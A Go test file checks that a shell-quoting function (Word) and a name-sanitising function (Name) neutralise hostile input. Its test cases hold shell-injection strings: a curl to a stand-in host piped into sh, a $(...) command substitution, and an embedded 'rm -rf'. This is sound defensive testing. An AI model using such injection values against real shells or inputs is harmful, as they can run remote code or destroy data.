package fault

import (
	"os/exec"
	"strings"
	"testing"
)

func TestWord(t *testing.T) {
	for _, test := range []struct{ text, want string }{
		{"system:serviceaccount:a:b", "system:serviceaccount:a:b"},
		{"jane@example.com", "jane@example.com"},
		{"", "''"},
		{"a b", "'a b'"},
		{"x;curl evil|sh", "'x;curl evil|sh'"},
		{"$(touch /tmp/x)", "'$(touch /tmp/x)'"},
		{"it's", `'it'\''s'`},
		{"-f", "-f"},
		{"a\nrm -rf b", `'"a\nrm -rf b"'`},
	} {
		if got := Word(test.text); got != test.want {
			t.Errorf("%q: %s, want %s", test.text, got, test.want)
		}
		out, err := exec.CommandContext(t.Context(), "sh", "-c", "printf %s "+Word(test.text)).Output()
		if test.text != "-f" && !strings.Contains(test.text, "\n") && (err != nil || string(out) != test.text) {
			t.Errorf("%q: a shell makes %q of it: %v", test.text, out, err)
		}
	}
}

func TestName(t *testing.T) {
	for text, want := range map[string]string{"system:bootstrappers:edge": "system:bootstrappers:edge", "x;curl evil|sh": "x-curl-evil-sh", "$(A)": "-a-", "É": "-"} {
		if got := Name(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}
